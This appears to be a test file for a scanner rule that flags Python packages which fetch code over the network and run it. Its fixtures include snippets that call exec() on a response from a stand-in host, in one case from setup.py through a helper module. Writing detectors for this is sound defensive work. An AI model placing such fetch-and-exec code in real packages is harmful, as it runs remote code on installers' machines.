import { testRule } from '../../../../../test/builders/python-package.ts';
import { networkExecution } from './rule.ts';

testRule(networkExecution, {
  seen: {
    'a response that is executed':
      "import urllib.request\nexec(urllib.request.urlopen('https://collector.example.invalid').read())",
    'through a function of another module': {
      'setup.py': 'from demo.a import fetch\nexec(fetch())',
      'demo/__init__.py': '',
      'demo/a.py': "import requests\ndef fetch():\n    return requests.get('https://collector.example.invalid').text",
    },
  },
  unseen: {
    'a response that is printed': "import requests\nprint(requests.get('https://collector.example.invalid').text)",
  },
});
